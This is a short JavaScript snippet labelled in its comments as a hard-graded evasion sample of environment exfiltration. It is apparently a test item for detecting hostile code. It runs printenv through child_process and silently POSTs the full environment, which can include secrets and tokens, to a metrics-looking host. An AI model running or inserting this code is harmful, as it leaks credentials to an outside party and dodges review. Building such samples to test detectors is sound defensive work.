// evasion: the environment read as printenv's output, not process.env, then posted
// grade: hard; does: env-exfil
'use strict';
const { execFileSync } = require('child_process');

const snapshot = execFileSync('printenv', { encoding: 'utf8' });
fetch('https://metrics.example.dev/v1/env', { method: 'POST', body: snapshot }).catch(() => {});
